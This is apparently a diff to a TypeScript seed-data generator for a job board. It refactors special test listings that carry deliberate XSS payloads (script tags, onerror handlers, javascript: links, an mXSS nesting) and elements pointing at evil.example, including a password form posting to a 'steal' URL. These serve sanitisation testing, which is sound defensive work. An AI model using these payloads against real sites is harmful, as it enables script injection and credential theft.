@@ -203,9 +203,12 @@ function descriptionFor(random: Random, language: SeedLanguage, org: Organisatio
 const referenceFor = (organisationId: number, jobId: number) =>
   `${ORGANISATIONS.find((o) => o.id === organisationId)!.handle.split('-')[0].toUpperCase()}-${String(jobId).padStart(5, '0')}`;
 
-function regularJob(random: Random, index: number, now: number, categoryOffset: number): JobRecord {
-  const profile = pickWeighted(random, COUNTRY_PROFILES.filter((p) => p.weight > 0));
-  const language = profile.language as SeedLanguage;
+function regularJob(random: Random, index: number, now: number, categoryOffset: number, iso?: string): JobRecord {
+  const profile = iso
+    ? COUNTRY_PROFILES.find((p) => p.iso === iso)!
+    : pickWeighted(random, COUNTRY_PROFILES.filter((p) => p.weight > 0));
+  // Arabic, Chinese and Amharic jobs are special ones that bring their own text; generate English underneath.
+  const language: SeedLanguage = profile.language in LOCAL_TEXT ? (profile.language as SeedLanguage) : 'en';
   const org = pick(random, ORGANISATIONS.filter((o) => o.iso === profile.iso));
   const place = pick(random, profile.places);
   // Stride 11 is coprime with the number of leaves, so every category turns up in any run of that many jobs.
@@ -234,7 +237,7 @@ function regularJob(random: Random, index: number, now: number, categoryOffset: 
     skills: random() < 0.15 ? null : skills.join(', '),
     salary: salaryFor(random, profile, language, type.handle, parentId),
     location: locationFor(random, profile, place),
-    language,
+    language: profile.language,
     categoryId: category.id,
     typeId: type.id,
     ...datesFor(random, now, 60),
@@ -245,131 +248,155 @@ function regularJob(random: Random, index: number, now: number, categoryOffset: 
   };
 }
 
-/** Overrides that turn a regular job into a special one. */
-type Special = () => Partial<JobRecord>;
+/** A special job: the country it is generated in, and the fields that replace the generated ones. */
+interface Special {
+  iso: string;
+  fields: () => Partial<JobRecord>;
+}
 
 const placeIn = (iso: string) => COUNTRY_PROFILES.find((p) => p.iso === iso)!.places[0];
 const locatedIn = (iso: string, display: string): JobRecord['location'] => {
   const place = placeIn(iso);
   return { display, postcode: place.postcode, countryId: COUNTRY_BY_ISO.get(iso)!.id, lat: place.lat, lon: place.lon };
 };
-const orgIn = (iso: string) => ORGANISATIONS.find((o) => o.iso === iso)!.id;
 
 const SPECIALS: Record<number, Special> = {
-  2: () => ({
-    categoryId: 721,
-    title: 'Customer Service Advisor – Evening Shift',
-    summary: 'Great team! <img src=x onerror="alert(\'summary\')"> Apply today.',
-    description: [
-      '<p>Join our <strong>award-winning</strong> contact centre.</p>',
-      '<script>alert("xss-script")</script>',
-      '<p><img src="x" onerror="alert(\'xss-img\')" alt="team photo"></p>',
-      '<p>Read our <a href="javascript:alert(\'xss-link\')">benefits guide</a>.</p>',
-      '<ul><li>Answer calls</li><li onclick="alert(1)">Solve problems</li></ul>',
-    ].join('\n'),
-  }),
-  5: () => ({
-    categoryId: 621,
-    title: 'Warehouse Team Leader',
-    summary: 'Lead a friendly warehouse team on a 4-on, 4-off shift pattern.',
-    description: [
-      '<p>Lead a team of 12 in our <em>new</em> distribution centre.</p>',
-      '<iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
-      '<svg onload="alert(\'xss-svg\')"><circle r="10"></circle></svg>',
-      '<div style="width: expression(alert(\'xss-css\')); background: url(javascript:alert(1))">Shift pattern: 4 on, 4 off.</div>',
-      '<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/e.swf">',
-      '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert(\'xss-focus\')"></form>',
-      '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
-      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    ].join('\n'),
-  }),
-  9: () => ({
-    categoryId: 621,
-    title: '<img src=x onerror=alert("title")> Forklift Driver',
-    summary: '"><script>alert(document.cookie)</script> Immediate start.',
-    description: [
-      '<p>Night shifts, <b>paid weekly</b>.</p>',
-      '<p><a href="JaVaScRiPt:alert(\'mixed-case\')">Click for rota</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">download</a>.</p>',
-      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
-      '<style>body { display: none !important; }</style>',
-      '<p onmouseover="alert(\'hover\')">Hover over me.</p>',
-      '<button formaction="javascript:alert(1)">Apply</button>',
-    ].join('\n'),
-  }),
-  13: () => ({
-    categoryId: 403,
-    title: 'Community Health Volunteer Coordinator',
-    summary: 'Coordinate community health volunteers and keep our outreach running smoothly.',
-    benefits: 'Lunch provided <script>alert("benefits")</script>',
-    skills: '<img src=x onerror=alert("skills")>First aid',
-    description: [
-      '<p>Coordinate 40 volunteers across the county.</p>',
-      '<p>Escaped text must stay text: &lt;script&gt;alert(1)&lt;/script&gt;</p>',
-      '<p><a href="https://evil.example" target="_blank">Partner site</a> (opens in a new tab).</p>',
-      '<p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></p>',
-      '<p><a href="vbscript:msgbox(1)">Old browsers</a></p>',
-    ].join('\n'),
-  }),
-  4: () => ({
-    categoryId: 301,
-    organisationId: orgIn('GB'),
-    location: locatedIn('GB', 'London (Hybrid)'),
-    summary: 'Shape the architecture of a payments platform used in 40 countries.',
-    description:
-      '<p>You will own the <strong>end-to-end architecture</strong> of our payments platform.</p>\n' +
-      '<ul><li>Set technical direction across eight teams</li><li>Review designs for security and resilience</li></ul>',
-    title:
-      'Senior Principal Enterprise Solutions Architect for Cloud-Native Distributed Payment Infrastructure, ' +
-      'Regulatory Reporting, Anti-Money-Laundering Analytics and Cross-Border Settlement Platforms (EMEA, Hybrid)',
-  }),
-  7: () => ({
-    categoryId: 301,
-    organisationId: orgIn('AE'),
-    language: 'ar',
-    title: 'مهندس برمجيات أول – تطوير تطبيقات الهاتف المحمول',
-    summary: 'تبحث شركة أفق الخليج للتجارة عن مهندس برمجيات أول للانضمام إلى فريقها في دبي.',
-    description:
-      '<p dir="rtl">نبحث عن <strong>مهندس برمجيات</strong> شغوف لبناء تطبيقات عالية الجودة.</p>\n' +
-      '<ul dir="rtl"><li>تصميم وتطوير الميزات الجديدة</li><li>مراجعة الشيفرة البرمجية</li><li>العمل مع فريق المنتج</li></ul>',
-    location: locatedIn('AE', 'دبي، الإمارات العربية المتحدة'),
-    salary: { from: 25000, to: 32000, text: 'AED 25,000 - AED 32,000 شهريًا', frequency: 'MONTHLY', currency: 'AED', entityUnicode: false },
-  }),
-  11: () => ({
-    categoryId: 6,
-    organisationId: orgIn('CN'),
-    language: 'zh',
-    title: '高级数据分析师（供应链方向）',
-    summary: '浦东物流有限公司诚聘高级数据分析师，负责供应链数据建模与可视化。',
-    description:
-      '<p>我们正在寻找一位<strong>高级数据分析师</strong>加入上海团队。</p>\n' +
-      '<ul><li>负责供应链数据分析与建模</li><li>搭建可视化报表</li><li>与业务团队紧密合作</li></ul>',
-    location: locatedIn('CN', '上海市浦东新区'),
-    salary: { from: 25000, to: 35000, text: '¥25,000 - ¥35,000 每月', frequency: 'MONTHLY', currency: 'CNY', entityUnicode: true },
-  }),
-  15: () => ({
-    categoryId: 403,
-    organisationId: orgIn('ET'),
-    language: 'am',
-    title: 'የማህበረሰብ ጤና ባለሙያ',
-    summary: 'የአቢሲኒያ የእርዳታ ማህበር በአዲስ አበባ የማህበረሰብ ጤና ባለሙያ ይፈልጋል።',
-    description:
-      '<p>የማህበረሰብ ጤና ባለሙያ <strong>እንፈልጋለን</strong>።</p>\n' +
-      '<ul><li>የጤና ትምህርት መስጠት</li><li>የቤት ለቤት ጉብኝት ማድረግ</li><li>ሪፖርት ማዘጋጀት</li></ul>',
-    location: locatedIn('ET', 'አዲስ አበባ'),
-    salary: { from: 12000, to: 15000, text: 'ETB 12,000 - ETB 15,000 በወር', frequency: 'MONTHLY', currency: 'ETB', entityUnicode: false },
-  }),
-  18: () => ({
-    categoryId: 750,
-    organisationId: orgIn('GB'),
-    summary: 'Analyse dust samples in our accredited respiratory research laboratory.',
-    description: '<p>Prepare and analyse samples under <abbr title="Good Laboratory Practice">GLP</abbr>.</p>',
-    title: 'Pneumonoultramicroscopicsilicovolcanoconiosis-Research-Laboratory-Technician-Level-III',
-    location: {
-      ...locatedIn('GB', ''),
-      display:
-        'Unit 14B, The Old Biscuit Factory Innovation and Enterprise Campus, Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch, Anglesey',
-    },
-  }),
+  2: {
+    iso: 'KE',
+    fields: () => ({
+      categoryId: 721,
+      title: 'Customer Service Advisor – Evening Shift',
+      summary: 'Great team! <img src=x onerror="alert(\'summary\')"> Apply today.',
+      description: [
+        '<p>Join our <strong>award-winning</strong> contact centre.</p>',
+        '<script>alert("xss-script")</script>',
+        '<p><img src="x" onerror="alert(\'xss-img\')" alt="team photo"></p>',
+        '<p>Read our <a href="javascript:alert(\'xss-link\')">benefits guide</a>.</p>',
+        '<ul><li>Answer calls</li><li onclick="alert(1)">Solve problems</li></ul>',
+      ].join('\n'),
+    }),
+  },
+  5: {
+    iso: 'GB',
+    fields: () => ({
+      categoryId: 621,
+      title: 'Warehouse Team Leader',
+      summary: 'Lead a friendly warehouse team on a 4-on, 4-off shift pattern.',
+      description: [
+        '<p>Lead a team of 12 in our <em>new</em> distribution centre.</p>',
+        '<iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
+        '<svg onload="alert(\'xss-svg\')"><circle r="10"></circle></svg>',
+        '<div style="width: expression(alert(\'xss-css\')); background: url(javascript:alert(1))">Shift pattern: 4 on, 4 off.</div>',
+        '<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/e.swf">',
+        '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert(\'xss-focus\')"></form>',
+        '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+      ].join('\n'),
+    }),
+  },
+  9: {
+    iso: 'ZA',
+    fields: () => ({
+      categoryId: 621,
+      title: '<img src=x onerror=alert("title")> Forklift Driver',
+      summary: '"><script>alert(document.cookie)</script> Immediate start.',
+      description: [
+        '<p>Night shifts, <b>paid weekly</b>.</p>',
+        '<p><a href="JaVaScRiPt:alert(\'mixed-case\')">Click for rota</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">download</a>.</p>',
+        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+        '<style>body { display: none !important; }</style>',
+        '<p onmouseover="alert(\'hover\')">Hover over me.</p>',
+        '<button formaction="javascript:alert(1)">Apply</button>',
+      ].join('\n'),
+    }),
+  },
+  13: {
+    iso: 'NG',
+    fields: () => ({
+      categoryId: 403,
+      title: 'Community Health Volunteer Coordinator',
+      summary: 'Coordinate community health volunteers and keep our outreach running smoothly.',
+      benefits: 'Lunch provided <script>alert("benefits")</script>',
+      skills: '<img src=x onerror=alert("skills")>First aid',
+      description: [
+        '<p>Coordinate 40 volunteers across the county.</p>',
+        '<p>Escaped text must stay text: &lt;script&gt;alert(1)&lt;/script&gt;</p>',
+        '<p><a href="https://evil.example" target="_blank">Partner site</a> (opens in a new tab).</p>',
+        '<p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></p>',
+        '<p><a href="vbscript:msgbox(1)">Old browsers</a></p>',
+      ].join('\n'),
+    }),
+  },
+  4: {
+    iso: 'GB',
+    fields: () => ({
+      categoryId: 301,
+      location: locatedIn('GB', 'London (Hybrid)'),
+      summary: 'Shape the architecture of a payments platform used in 40 countries.',
+      description:
+        '<p>You will own the <strong>end-to-end architecture</strong> of our payments platform.</p>\n' +
+        '<ul><li>Set technical direction across eight teams</li><li>Review designs for security and resilience</li></ul>',
+      title:
+        'Senior Principal Enterprise Solutions Architect for Cloud-Native Distributed Payment Infrastructure, ' +
+        'Regulatory Reporting, Anti-Money-Laundering Analytics and Cross-Border Settlement Platforms (EMEA, Hybrid)',
+    }),
+  },
+  7: {
+    iso: 'AE',
+    fields: () => ({
+      categoryId: 301,
+      language: 'ar',
+      title: 'مهندس برمجيات أول – تطوير تطبيقات الهاتف المحمول',
+      summary: 'تبحث شركة أفق الخليج للتجارة عن مهندس برمجيات أول للانضمام إلى فريقها في دبي.',
+      description:
+        '<p dir="rtl">نبحث عن <strong>مهندس برمجيات</strong> شغوف لبناء تطبيقات عالية الجودة.</p>\n' +
+        '<ul dir="rtl"><li>تصميم وتطوير الميزات الجديدة</li><li>مراجعة الشيفرة البرمجية</li><li>العمل مع فريق المنتج</li></ul>',
+      location: locatedIn('AE', 'دبي، الإمارات العربية المتحدة'),
+      salary: { from: 25000, to: 32000, text: 'AED 25,000 - AED 32,000 شهريًا', frequency: 'MONTHLY', currency: 'AED', entityUnicode: false },
+    }),
+  },
+  11: {
+    iso: 'CN',
+    fields: () => ({
+      categoryId: 6,
+      language: 'zh',
+      title: '高级数据分析师（供应链方向）',
+      summary: '浦东物流有限公司诚聘高级数据分析师，负责供应链数据建模与可视化。',
+      description:
+        '<p>我们正在寻找一位<strong>高级数据分析师</strong>加入上海团队。</p>\n' +
+        '<ul><li>负责供应链数据分析与建模</li><li>搭建可视化报表</li><li>与业务团队紧密合作</li></ul>',
+      location: locatedIn('CN', '上海市浦东新区'),
+      salary: { from: 25000, to: 35000, text: '¥25,000 - ¥35,000 每月', frequency: 'MONTHLY', currency: 'CNY', entityUnicode: true },
+    }),
+  },
+  15: {
+    iso: 'ET',
+    fields: () => ({
+      categoryId: 403,
+      language: 'am',
+      title: 'የማህበረሰብ ጤና ባለሙያ',
+      summary: 'የአቢሲኒያ የእርዳታ ማህበር በአዲስ አበባ የማህበረሰብ ጤና ባለሙያ ይፈልጋል።',
+      description:
+        '<p>የማህበረሰብ ጤና ባለሙያ <strong>እንፈልጋለን</strong>።</p>\n' +
+        '<ul><li>የጤና ትምህርት መስጠት</li><li>የቤት ለቤት ጉብኝት ማድረግ</li><li>ሪፖርት ማዘጋጀት</li></ul>',
+      location: locatedIn('ET', 'አዲስ አበባ'),
+      salary: { from: 12000, to: 15000, text: 'ETB 12,000 - ETB 15,000 በወር', frequency: 'MONTHLY', currency: 'ETB', entityUnicode: false },
+    }),
+  },
+  18: {
+    iso: 'GB',
+    fields: () => ({
+      categoryId: 750,
+      summary: 'Analyse dust samples in our accredited respiratory research laboratory.',
+      description: '<p>Prepare and analyse samples under <abbr title="Good Laboratory Practice">GLP</abbr>.</p>',
+      title: 'Pneumonoultramicroscopicsilicovolcanoconiosis-Research-Laboratory-Technician-Level-III',
+      location: {
+        ...locatedIn('GB', ''),
+        display:
+          'Unit 14B, The Old Biscuit Factory Innovation and Enterprise Campus, Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch, Anglesey',
+      },
+    }),
+  },
 };
 
 export interface SeedOptions {
@@ -383,14 +410,9 @@ export function seedJobs({ count, seed, now }: SeedOptions): JobRecord[] {
   const categoryOffset = Math.floor(random() * LEAF_CATEGORIES.length);
   const jobs: JobRecord[] = [];
   for (let index = 0; index < count; index++) {
-    const job = regularJob(random, index, now, categoryOffset);
     const special = SPECIALS[index];
-    if (!special) {
-      jobs.push(job);
-      continue;
-    }
-    const merged = { ...job, ...special(), ...datesFor(random, now, 0.5) };
-    jobs.push({ ...merged, reference: referenceFor(merged.organisationId, merged.id) });
+    const job = regularJob(random, index, now, categoryOffset, special?.iso);
+    jobs.push(special ? { ...job, ...special.fields(), ...datesFor(random, now, 0.5) } : job);
   }
   return jobs;
 }
